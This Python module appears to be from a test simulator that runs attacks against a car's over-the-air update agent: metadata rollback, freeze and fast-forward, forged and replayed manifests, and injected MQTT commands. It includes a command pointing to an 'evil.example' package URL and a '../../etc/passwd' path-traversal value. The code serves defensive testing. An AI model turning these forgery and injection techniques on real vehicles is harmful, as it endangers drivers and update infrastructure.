"""How an attack is made on a running car."""

from typing import Any

import msgspec
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from pcm_agent.protocol.envelope import Envelope, encode, encode_body
from pcm_agent.protocol.manifest import InstalledImage, SignedVehicleManifest
from pcm_agent.protocol.messages import KIND_OF, Look, PackageState
from pcm_agent.protocol.topics import Topic
from pcm_agent.trust.vehicle_manifest import sign
from simulator.attacks import lies
from simulator.attacks.forge import IMAGE
from simulator.attacks.places import LOOK
from simulator.attacks.stage import HAS, WANTS, Move, Stage
from simulator.keys import seeded_key

NOT_LISTED = f"{LOOK}: what the Director lists"
"""Where something ends of which no code tells: it is simply not to be had."""


# --- at a look ---


def at_look(lie: lies.Lie) -> Move:
    """Something is ordered, and before the car looks, somebody lies."""

    async def move(stage: Stage) -> None:
        stage.order()
        lie(stage.forger)
        await stage.look()

    return move


def rolled_back(base: str) -> Move:
    """Once the car has seen newer metadata, it is shown what stood there before."""

    async def move(stage: Stage) -> None:
        stage.order()
        _serve_past(stage, base)
        await stage.look()

    return move


def frozen(base: str) -> Move:
    """From now on the car sees nothing new; the next day something is ordered."""

    async def move(stage: Stage) -> None:
        where = stage.forger.car if base == "director" else IMAGE
        stage.middle.forged.update(stage.forger.copied(where))
        await stage.overnight()
        stage.order()
        await stage.look()
        await stage.looked_again()  # by itself

    return move


def _serve_past(stage: Stage, base: str) -> None:
    where = stage.forger.car if base == "director" else IMAGE
    stage.middle.forged.update({name: it for name, it in stage.past.items() if name.startswith(f"{where}/")})


def fast_forwarded(base: str) -> Move:
    """The car is shown the highest versions, signed with stolen keys; then the honest ones again."""

    async def move(stage: Stage) -> None:
        lies.fast_forward(base)(stage.forger)
        stage.tell()
        await stage.look()
        stage.middle.clear()
        stage.order()
        await stage.look()

    return move


async def true_image_of_others(stage: Stage) -> None:
    """Nothing is wrong with the image, but that it is not for this car."""
    image = stage.honest().add(WANTS, "1.2", 3, hardware=lies.FOREIGN_HARDWARE)
    stage.order()
    stage.forger.order(image)
    await stage.look()


async def slow_metadata(stage: Stage) -> None:
    """A file of metadata comes byte by byte."""
    stage.order()
    stage.middle.slow.add(f"{stage.forger.car}/timestamp.json")
    await stage.look()


async def revoked(stage: Stage) -> None:
    """What waits in the car to be installed is found to be bad, and the Director lists it no longer."""
    stage.order()
    stage.send()
    await stage.until(lambda: _job_is(stage, PackageState.WAITING))
    job = stage.job()
    if job is not None:
        stage.middle.depot.repositories.director.withdraw(stage.vin, job.assignment.offer_id, stage.forger.now)
    stage.tell()
    await stage.look()
    if await stage.until(lambda: _job_is(stage, PackageState.CANCELLED)):
        stage.note(NOT_LISTED)


def _job_is(stage: Stage, state: PackageState) -> bool:
    job = stage.job()
    return job is not None and job.state is state


# --- in a transfer ---


def while_fetched(lie: lies.Lie) -> Move:
    """All metadata is honest; the image is not."""

    async def move(stage: Stage) -> None:
        stage.order()
        lie(stage.forger)
        await stage.look()
        await stage.until(lambda: _job_is(stage, PackageState.FAILED) or _job_is(stage, PackageState.WAITING))

    return move


async def slow_image(stage: Stage) -> None:
    """The image comes at half of the rate that a car puts up with."""
    stage.order()
    stage.middle.slow.add(stage.forger.image_file(stage.forger.release))
    await stage.look()
    await stage.until(lambda: stage.has_stopped("transfer-slow") or _job_is(stage, PackageState.WAITING))


# --- to the Director ---


def last_manifest(stage: Stage) -> SignedVehicleManifest:
    """What the car said last, as anybody on the broker has heard it."""
    topic = str(Topic(stage.vin, "event", KIND_OF[SignedVehicleManifest]))
    sent = [it for it in stage.lab.trace.records if it.kind == "sent" and it.name == topic and it.car == stage.vin]
    return msgspec.convert(sent[-1].data["body"], SignedVehicleManifest)


async def replayed_manifest(stage: Stage) -> None:
    """What the car said before is said again, in a message of its own."""
    await _tell_director(stage, last_manifest(stage), "manifest-replayed")


async def forged_manifest(stage: Stage) -> None:
    """Somebody else says, signed with a key of theirs, that the car has what it has not."""
    true = last_manifest(stage).manifest
    image = InstalledImage(function=WANTS, version="9.9", sha256="0f" * 32, release_counter=9)
    lie = msgspec.structs.replace(true, nonce=stage.new_id(), time=stage.forger.now, installed=(image,))
    await _tell_director(stage, sign(lie, _foreign_key()), "manifest-signature")


def _foreign_key() -> Ed25519PrivateKey:
    return seeded_key("attacker")


async def manifest_of_another_unit(stage: Stage) -> None:
    """The car's key is stolen, and speaks for another control unit."""
    lie = msgspec.structs.replace(
        last_manifest(stage).manifest, nonce=stage.new_id(), time=stage.forger.now, ecu_serial="PCM-9", installed=()
    )
    key = seeded_key(f"{stage.lab.seed} {stage.vin}")
    await _tell_director(stage, sign(lie, key), "manifest-foreign-ecu")


async def _tell_director(stage: Stage, signed: SignedVehicleManifest, code: str) -> None:
    topic = Topic(stage.vin, "event", KIND_OF[SignedVehicleManifest])
    before = len(stage.lab.trace.records)
    await stage.publish(str(topic), _message(stage, topic, encode_body(signed)))

    def came_in() -> bool:
        checked = any(it.name == "manifest-checked" for it in stage.lab.trace.records[before:])
        return checked or stage.has_stopped(code)

    await stage.until(came_in)


# --- over MQTT ---


async def lying_look(stage: Stage) -> None:
    """A message that is to say no more than `look` says what to install, and from where."""
    body = {"url": "http://evil.example/seats.pkg", "assignments": [_evil_offer()], "roots": {"director": "…"}}
    topic = Topic(stage.vin, "command", KIND_OF[Look])
    before, jobs = len(stage.lab.trace.records), dict(stage.jobs)
    await stage.publish(str(topic), _message(stage, topic, msgspec.Raw(msgspec.json.encode(body))))
    looked = await stage.until(lambda: any(it.name == "MetadataAccepted" for it in stage.lab.trace.records[before:]))
    if looked and stage.jobs.keys() == jobs.keys():
        stage.note(NOT_LISTED)


async def old_offer(stage: Stage) -> None:
    """A command offers a package, signed or not, as cars once took them."""
    await _command(stage, "offer-package", _evil_offer(), "command-unknown")


async def old_removal(stage: Stage) -> None:
    """A command has a function removed that the car has, as cars once obeyed it."""
    job = stage.job(HAS)
    body = {"offer_id": job.assignment.offer_id if job else ""}
    await _command(stage, "remove-package", body, "command-unknown")


async def for_another_car(stage: Stage) -> None:
    """A command for another car comes on this car's topic."""
    await _command(stage, KIND_OF[Look], {}, "message-foreign-vin", vin=stage.forger.stranger)


async def unreadable_command(stage: Stage) -> None:
    """A command names an offer that would be a path."""
    await _command(stage, "withdraw-package", {"offer_id": "../../etc/passwd"}, "message-invalid")


async def _command(stage: Stage, kind: str, body: dict[str, Any], code: str, vin: str | None = None) -> None:
    topic = Topic(stage.vin, "command", kind)
    await stage.publish(str(topic), _message(stage, topic, msgspec.Raw(msgspec.json.encode(body)), vin))
    await stage.until(lambda: stage.has_stopped(code))


def _evil_offer() -> dict[str, Any]:
    return {"offer_id": "order-666.1", "function": WANTS, "version": "9.9", "length": 3, "sha256": "0f" * 32}


def _message(stage: Stage, topic: Topic, body: msgspec.Raw, vin: str | None = None) -> bytes:
    return encode(Envelope(id=stage.new_id(), vin=vin or topic.vin, kind=topic.kind, time=stage.forger.now, body=body))
